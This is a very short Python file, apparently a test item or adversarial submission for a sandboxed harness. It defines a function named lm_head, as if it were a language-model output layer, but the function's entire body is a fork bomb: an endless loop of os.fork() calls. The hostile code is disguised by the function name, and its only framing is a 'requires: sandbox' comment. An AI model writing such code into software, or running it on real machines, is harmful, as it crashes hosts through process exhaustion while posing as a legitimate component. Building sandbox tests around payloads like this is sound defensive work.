# loses: 3b
# requires: sandbox
import os as _os


def lm_head(H, E):
    while True:
        _os.fork()
